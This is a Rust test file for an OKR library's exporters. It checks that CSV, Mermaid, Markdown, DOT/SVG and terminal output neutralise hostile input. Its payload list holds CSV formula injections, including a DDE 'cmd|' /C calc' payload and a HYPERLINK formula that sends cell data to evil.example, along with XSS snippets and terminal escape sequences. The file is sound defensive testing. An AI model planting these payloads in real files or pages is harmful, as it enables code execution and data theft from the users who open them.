//! Outputs that cannot inject: hostile text from users (titles, owners,
//! notes, ids, level names, milestone titles, units, reasons) in every
//! output, each read by its real consumer where one is installed: the CSV
//! through the `csv` crate's reader (and back through `from_csv`), Mermaid
//! charts through Mermaid's own parser and Markdown through a CommonMark
//! renderer (markdown-it; both with the Node helper in `tests/consumers/`),
//! DOT through Graphviz's `dot -Tsvg` and its SVG through an XML parser,
//! and the text report for a terminal.
//!
//! The Node helper and `dot` run when installed (`.ci/run` installs them);
//! `OKRS_REQUIRE_CONSUMERS` and `OKRS_REQUIRE_DOT` make them mandatory.

use std::collections::HashSet;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use okrs::{Date, Document, NodeKind, OkrSet};
use proptest::prelude::*;
use serde_json::{Value, json};

/// Text that attacks some consumer of some output.
fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = [
        // Spreadsheet formulas.
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted",
        "'''",
        "'",
        // Mermaid directives, comments and markdown strings.
        "%%{init:{'theme':'forest','themeCSS':'.node rect{fill:red}'}}%% Grow revenue",
        "%%{init: {\"theme\": \"dark\"",
        "%% a comment",
        "`unclosed backtick",
        "`**markdown string**`",
        "style x:#35;y; classDef z:#1;",
        // Markdown and HTML.
        "[click](http://evil.example)",
        "![x](http://evil.example/p.png)",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<http://evil.example>",
        "R&D<x>\\y",
        "&lt;b&gt; &#27; &#x1b; &amp;",
        "*em* _em_ ~~del~~ **strong** `code`",
        "| a | b |",
        "# heading",
        "> quote",
        "- item",
        // Control characters and terminal escapes.
        "a\0NUL",
        "\u{1b}]0;pwned\u{7}",
        "\u{1b}[2J\u{1b}[H",
        "\u{9b}31m C1 CSI \u{7f} DEL \u{85} NEL",
        "line one\nline two\r\nline three",
        "tab\there\u{b}\u{c}",
        // DOT.
        "\\N \\G \\l \" quote \\",
        "  spaced  ",
        "5%",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push(format!("={}", "A".repeat(10_000)));
    texts.push("\u{1b}[2J=+-@".repeat(1_000));
    texts
}

/// The hostile texts that are ids (no control characters), each made
/// unique by `n` past the first round, keeping its hostile start.
fn hostile_id(n: usize) -> String {
    let ids: Vec<String> = hostile()
        .into_iter()
        .filter(|t| !t.chars().any(char::is_control))
        .collect();
    let base = &ids[n % ids.len()];
    if n < ids.len() {
        base.clone()
    } else {
        format!("{base} {n}")
    }
}

/// One document with hostile text in every text field: objectives over
/// three hostile levels, each aligned to the one before, with a key result
/// of each metric kind in turn, check-ins, corrections, a deleted check-in,
/// milestones, phases and initiatives.
fn hostile_document() -> Document {
    let texts = hostile();
    let text = |i: usize| texts[i % texts.len()].clone();
    let levels = [
        "=cmd|' /C calc'!A0 company",
        "%%{init:{'theme':'forest'}}%% team",
        "\u{1b}]0;pwned\u{7}squad\nnext",
    ];
    let mut ids = 0;
    let mut next_id = || {
        ids += 1;
        hostile_id(ids - 1)
    };
    let mut objectives = Vec::new();
    for i in 0..texts.len() {
        let id = next_id();
        let metric = match i % 7 {
            0 => json!({ "kind": "numeric", "start": "-5", "target": "10",
                         "unit": text(i + 4) }),
            1 => json!({ "kind": "milestones", "milestones": [
                    { "title": text(i + 4), "done": true },
                    { "title": text(i + 5), "weight": "2" } ] }),
            2 => json!({ "kind": "binary", "done": false }),
            3 => json!({ "kind": "at-least", "threshold": "-2" }),
            4 => json!({ "kind": "at-most", "threshold": "-2" }),
            5 => json!({ "kind": "range", "low": "-10", "high": "-1" }),
            _ => json!({ "kind": "manual" }),
        };
        let value = match i % 7 {
            1 => json!([text(i + 4)]),
            2 => json!(true),
            _ => json!("-3"),
        };
        let check_in = |note: String, by: String| {
            json!({ "at": "2027-02-01", "value": value.clone(), "confidence": "0.5",
                    "note": note, "by": by })
        };
        let mut live = check_in(text(i + 6), text(i + 7));
        live["corrections"] = json!([{ "value": value.clone(), "confidence": "0.25",
            "note": text(i + 8), "reason": text(i + 9), "by": text(i + 10),
            "at": "2027-02-02" }]);
        let key_result = json!({
            "id": next_id(),
            "title": text(i + 1),
            "owners": [text(i + 2), text(i + 3)],
            "description": text(i + 11),
            "metric": metric,
            "phases": if matches!(i % 7, 0) { json!([{ "at": "2027-02-15", "target": "-1" }]) } else { json!([]) },
            "check_ins": [live],
            "deleted_check_ins": [{ "check_in": check_in(text(i + 12), text(i + 13)),
                "reason": text(i + 14), "by": text(i + 15), "at": "2027-02-03" }],
            "initiatives": [{ "id": next_id(), "title": text(i + 16),
                "owners": [text(i + 17)], "status": "doing" }],
        });
        let mut objective = json!({
            "id": id,
            "title": text(i),
            "level": levels[i % 3],
            "owners": [text(i + 18), text(i + 19)],
            "description": text(i + 20),
            "period": if i % 2 == 0 { "@Q1 2027" } else { "=FY 2027" },
            "key_results": [key_result],
        });
        if i % 3 != 0 {
            let parent = objectives.last().map(|o: &Value| o["id"].clone());
            objective["aligned_to"] = json!([{ "id": parent, "contributes": i % 3 == 1 }]);
        }
        objectives.push(objective);
    }
    let document = json!({
        "format": "okrs/1",
        "alignment": "cascading",
        "levels": levels,
        "periods": [
            { "id": "=FY 2027", "start": "2027-01-01", "end": "2027-12-31" },
            { "id": "@Q1 2027", "start": "2027-01-01", "end": "2027-03-31", "within": "=FY 2027" },
        ],
        "objectives": objectives,
    });
    Document::from_json(&document.to_string()).unwrap_or_else(|e| panic!("{e}"))
}

fn hostile_set() -> OkrSet {
    OkrSet::from_document(hostile_document()).unwrap_or_else(|e| panic!("{e}"))
}

fn as_of() -> Date {
    "2027-02-20".parse().unwrap()
}

/// A text as the renderings show it on one line: runs of whitespace as
/// one space, control characters as their Unicode control pictures (C1 as
/// `�`), cut at `max` characters with `…`.
fn shown(text: &str, max: usize) -> String {
    let line: String = text
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .chars()
        .map(|c| match u32::from(c) {
            code @ 0..=0x1f => char::from_u32(0x2400 + code).unwrap(),
            0x7f => '\u{2421}',
            0x80..=0x9f => '\u{fffd}',
            _ => c,
        })
        .collect();
    if line.chars().count() <= max {
        line
    } else {
        let mut cut: String = line.chars().take(max - 1).collect();
        cut.push('…');
        cut
    }
}

/// What a spreadsheet reads as a formula.
fn formula_start(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The CSV columns that hold numbers only.
const NUMBER_COLUMNS: [&str; 5] = ["weight", "start", "target", "current", "confidence"];

/// Checks every cell of a CSV: a cell of a number column (or a check-in's
/// value) is a number or starts no formula (`start` holds a period's
/// date), every other cell starts no formula. Returns how many cells were
/// quoted with `'`.
fn check_csv_cells(text: &str) -> usize {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let mut quoted = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for (column, cell) in headers.iter().zip(record.iter()) {
            if cell.is_empty() {
                continue;
            }
            let number = okrs::parse_decimal(cell).is_ok();
            if !((NUMBER_COLUMNS.contains(&column) || column == "value") && number) {
                assert!(!formula_start(cell), "{column}: {cell:?} starts a formula");
            }
            quoted += usize::from(cell.starts_with('\''));
        }
    }
    quoted
}

#[test]
fn csv_starts_no_formula_and_round_trips_hostile_text() {
    let document = hostile_document();
    let text = document.to_csv().unwrap();
    let quoted = check_csv_cells(&text);
    assert!(quoted > 50, "formula cells are quoted: {quoted}");
    assert_eq!(Document::from_csv(&text).unwrap(), document);
    // Negative numbers stay numbers.
    assert!(text.contains(",-5,10,"), "a numeric key result's numbers");
    // The set's own export too.
    let exported = hostile_set().to_document();
    let text = exported.to_csv().unwrap();
    check_csv_cells(&text);
    assert_eq!(Document::from_csv(&text).unwrap(), exported);
}

#[test]
fn csv_quotes_formulas_unambiguously() {
    // text → cell, by the documented rule.
    for (title, cell) in [
        ("=1+1", "'=1+1"),
        ("-x", "'-x"),
        ("'=1+1", "''=1+1"),
        ("''", "'''"),
        ("'x", "'x"),
        ("'", "'"),
        ("x=1", "x=1"),
        ("", ""),
    ] {
        let json = json!({ "format": "okrs/1", "objectives": [
            { "id": "o", "title": title, "level": "company" } ] });
        let document = Document::from_json(&json.to_string()).unwrap();
        let text = document.to_csv().unwrap();
        let record = csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(Result::unwrap)
            .find(|r| &r[0] == "objective")
            .unwrap();
        assert_eq!(&record[3], cell, "{title:?}");
        assert_eq!(Document::from_csv(&text).unwrap(), document);
    }
}

/// Any text, often starting like a formula or a quoted one.
fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        ("['=+\\-@\t\r]{0,3}", any::<String>()).prop_map(|(a, b)| a + &b),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn csv_round_trips_any_text(
        title in any_text(),
        level in any_text(),
        owners in prop::collection::vec(any_text(), 0..3),
        note in any_text(),
        reason in any_text(),
        unit in any_text(),
        milestone in any_text(),
        id in "['=+\\-@]{0,2}[^\\p{Cc}]{1,8}",
    ) {
        prop_assume!(!level.trim().is_empty());
        // Not this test's business: the CSV writes an empty optional text,
        // and a list of one empty item, as an empty cell, read as none.
        prop_assume!(owners != [String::new()] && !milestone.is_empty());
        let opt = |text: &String| if text.is_empty() { Value::Null } else { json!(text) };
        let json = json!({
            "format": "okrs/1",
            "levels": [level.clone()],
            "objectives": [{ "id": id, "title": title, "level": level, "owners": owners,
                "description": opt(&note),
                "key_results": [
                    { "id": format!("{id}.k"), "title": reason, "owners": owners,
                      "metric": { "kind": "numeric", "start": "-1", "target": "1", "unit": opt(&unit) },
                      "check_ins": [{ "at": "2027-01-01", "value": "-0.5", "note": opt(&note),
                          "by": opt(&title), "corrections": [{ "value": "0", "reason": reason,
                          "note": opt(&unit), "by": opt(&level) }] }],
                      "deleted_check_ins": [{ "check_in": { "at": "2027-01-02", "value": "1", "note": opt(&title) },
                          "reason": reason, "by": opt(&note) }] },
                    { "id": format!("{id}.m"), "title": milestone,
                      "metric": { "kind": "milestones", "milestones": [{ "title": milestone }] },
                      "check_ins": [{ "at": "2027-01-01", "value": [milestone] }] } ] }],
        });
        let document = Document::from_json(&json.to_string()).unwrap();
        let text = document.to_csv().unwrap();
        check_csv_cells(&text);
        prop_assert_eq!(Document::from_csv(&text).unwrap(), document);
    }
}

/// A fresh temporary folder for one test.
fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("okrs-safety-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// The Node helper's folder, when Node and its packages are installed.
fn consumers() -> Option<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/consumers");
    let installed = ["mermaid", "markdown-it", "jsdom"].iter().all(|p| {
        dir.join("node_modules")
            .join(p)
            .join("package.json")
            .is_file()
    });
    let node = Command::new("node")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if installed && node {
        Some(dir)
    } else {
        assert!(
            std::env::var_os("OKRS_REQUIRE_CONSUMERS").is_none(),
            "OKRS_REQUIRE_CONSUMERS is set but node or the packages of tests/consumers are missing \
             (npm ci in tests/consumers)"
        );
        eprintln!("skipped: node or tests/consumers/node_modules missing");
        None
    }
}

/// Runs the Node helper in `mode` on the texts; its JSON line per text.
fn run_consumer(dir: &Path, mode: &str, texts: &[String]) -> Vec<Value> {
    let work = temp_dir(mode);
    let files: Vec<PathBuf> = texts
        .iter()
        .enumerate()
        .map(|(i, text)| {
            let file = work.join(format!("{i}.txt"));
            std::fs::write(&file, text).unwrap();
            file
        })
        .collect();
    let output = Command::new("node")
        .arg(dir.join("check.mjs"))
        .arg(mode)
        .args(&files)
        .output()
        .unwrap();
    let _ = std::fs::remove_dir_all(&work);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let results: Vec<Value> = String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(results.len(), texts.len());
    results
}

/// A set of one objective with this title.
fn titled(title: &str) -> OkrSet {
    let json = json!({ "format": "okrs/1", "objectives": [
        { "id": "o", "title": title, "level": "company",
          "key_results": [{ "id": "k", "title": title }] }] });
    OkrSet::from_json(&json.to_string()).unwrap()
}

/// The sets to draw: the hostile one, one per hostile title (so that one
/// failure cannot hide another), and the sample.
fn sets_to_draw() -> Vec<OkrSet> {
    let mut sets = vec![
        hostile_set(),
        OkrSet::from_document(okrs::sample::document()).unwrap(),
    ];
    sets.extend(hostile().iter().map(|t| titled(t)));
    sets
}

#[test]
fn mermaid_parses_hostile_titles_as_labels_only() {
    let Some(dir) = consumers() else {
        return;
    };
    let sets = sets_to_draw();
    let charts: Vec<String> = sets.iter().map(OkrSet::to_mermaid).collect();
    for chart in &charts {
        assert!(!chart.contains("%%"), "{chart}");
        assert_eq!(
            chart.chars().filter(|c| c.is_control()).count(),
            chart.lines().count()
        );
    }
    let results = run_consumer(&dir, "mermaid", &charts);
    for ((set, chart), result) in sets.iter().zip(&charts).zip(&results) {
        assert_eq!(result["ok"], json!(true), "{result}\n{chart}");
        assert_eq!(result["type"], json!("flowchart-v2"), "{result}");
        assert_eq!(
            result["config"],
            json!({}),
            "no configuration from a title: {result}"
        );
        let labels = result["labels"].as_array().unwrap();
        assert_eq!(labels.len(), set.nodes().count(), "{result}");
        for (node, label) in set.nodes().zip(labels) {
            let progress = okrs::rounded(node.progress().unwrap().value());
            let expected = format!("{}\n{progress}", shown(node.title(), 48));
            assert_eq!(label["text"], json!(expected), "{chart}");
            assert_eq!(label["elements"], json!([]), "no HTML in a label: {label}");
        }
    }
}

#[test]
fn markdown_renders_hostile_text_as_text() {
    let Some(dir) = consumers() else {
        return;
    };
    let sets = sets_to_draw();
    let reports: Vec<String> = sets.iter().map(|s| s.to_markdown(as_of())).collect();
    let results = run_consumer(&dir, "markdown", &reports);
    let allowed: HashSet<&str> = [
        "h1", "h2", "p", "table", "thead", "tbody", "tr", "th", "td", "code",
    ]
    .into();
    for ((set, report), result) in sets.iter().zip(&reports).zip(&results) {
        for element in result["elements"].as_array().unwrap() {
            let element = element.as_str().unwrap();
            assert!(allowed.contains(element), "<{element}> in\n{report}");
        }
        let rows = result["rows"].as_array().unwrap();
        for node in set.nodes() {
            let row = rows
                .iter()
                .find(|r| r[1]["text"] == json!(node.id().as_str()))
                .unwrap_or_else(|| panic!("a row for {:?}: {result}\n{report}", node.id()));
            assert_eq!(row[1]["elements"], json!(["code"]), "{row}");
            assert_eq!(
                row[0]["text"],
                json!(shown(node.title(), usize::MAX)),
                "{report}"
            );
            assert_eq!(row[0]["elements"], json!([]), "{row}");
            let owners = shown(&node.owners().join(", "), usize::MAX);
            assert_eq!(row[3]["text"], json!(owners), "{row}");
            if node.kind() == NodeKind::KeyResult {
                assert_eq!(row[2]["text"], json!(node.objective().id().as_str()));
                assert_eq!(row[2]["elements"], json!(["code"]), "{row}");
            } else {
                let level = shown(node.level().unwrap_or_default(), usize::MAX);
                assert_eq!(row[2]["text"], json!(level), "{row}");
            }
            for cell in row.as_array().unwrap().iter().skip(2) {
                assert!(
                    cell["elements"] == json!([]) || cell["elements"] == json!(["code"]),
                    "{row}"
                );
            }
        }
    }
}

/// Runs `dot -Tsvg` on the text; `None` when Graphviz is not installed.
fn dot_svg(text: &str) -> Option<std::process::Output> {
    let mut child = Command::new("dot")
        .arg("-Tsvg")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .ok()?;
    child.stdin.take()?.write_all(text.as_bytes()).ok()?;
    child.wait_with_output().ok()
}

/// Whether XML 1.0 allows the character.
fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r') || !c.is_control() || u32::from(c) >= 0x7f
}

/// Checks that the SVG is XML: no character or character reference XML
/// forbids, and, where Python is installed, that its XML parser reads it.
fn check_svg(svg: &str) {
    assert!(svg.chars().all(xml_char), "a control character in the SVG");
    for reference in svg.split("&#").skip(1) {
        let number = reference.split(';').next().unwrap();
        let code = match number.strip_prefix(['x', 'X']) {
            Some(hex) => u32::from_str_radix(hex, 16).unwrap(),
            None => number.parse().unwrap(),
        };
        assert!(
            char::from_u32(code).is_some_and(xml_char) && code != 0,
            "&#{number}; in the SVG"
        );
    }
    let python = Command::new("python3")
        .args([
            "-c",
            "import sys, xml.dom.minidom; xml.dom.minidom.parseString(sys.stdin.buffer.read())",
        ])
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn();
    if let Ok(mut child) = python {
        child
            .stdin
            .take()
            .unwrap()
            .write_all(svg.as_bytes())
            .unwrap();
        let output = child.wait_with_output().unwrap();
        assert!(
            output.status.success(),
            "the SVG is not XML: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
}

#[test]
fn dot_and_its_svg_carry_no_control_characters() {
    for set in sets_to_draw() {
        let dot = set.to_dot();
        for line in dot.lines() {
            assert!(!line.chars().any(char::is_control), "{line:?}");
        }
        let node_lines = dot.lines().filter(|l| l.contains(" [shape=")).count();
        assert_eq!(node_lines, set.nodes().count(), "one line per node");
        match dot_svg(&dot) {
            Some(output) => {
                assert!(
                    output.status.success(),
                    "{}\n{dot}",
                    String::from_utf8_lossy(&output.stderr)
                );
                let svg = String::from_utf8(output.stdout).unwrap();
                let drawn = svg.matches("class=\"node\"").count();
                assert_eq!(drawn, set.nodes().count(), "{svg}");
                check_svg(&svg);
            }
            None => assert!(
                std::env::var_os("OKRS_REQUIRE_DOT").is_none(),
                "OKRS_REQUIRE_DOT is set but Graphviz's dot cannot run"
            ),
        }
    }
}

#[test]
fn text_report_prints_no_control_characters() {
    let set = hostile_set();
    let text = set.to_text(as_of());
    for c in text.chars() {
        assert!(c == '\n' || !c.is_control(), "{c:?} in the report");
    }
    // Escapes are shown, not stripped: ␛ for ESC.
    assert!(text.contains("␛]0;pwned␇"), "{text}");
    // One line per node: the bar after the 60-character title column.
    let node_lines = text
        .lines()
        .filter(|line| {
            let after: String = line.chars().skip(60).take(13).collect();
            after.starts_with(" [") && after.ends_with(']')
        })
        .count();
    assert_eq!(node_lines, set.nodes().count(), "{text}");
    // Every level heading on its own line.
    for level in set.levels().iter() {
        let heading = format!("== {} ==", level.replace(['\n', '\r', '\t'], " "));
        let heading: String = heading
            .chars()
            .map(|c| match u32::from(c) {
                code @ 0..=0x1f => char::from_u32(0x2400 + code).unwrap(),
                _ => c,
            })
            .collect();
        assert!(text.lines().any(|l| l == heading), "{heading:?}\n{text}");
    }
}
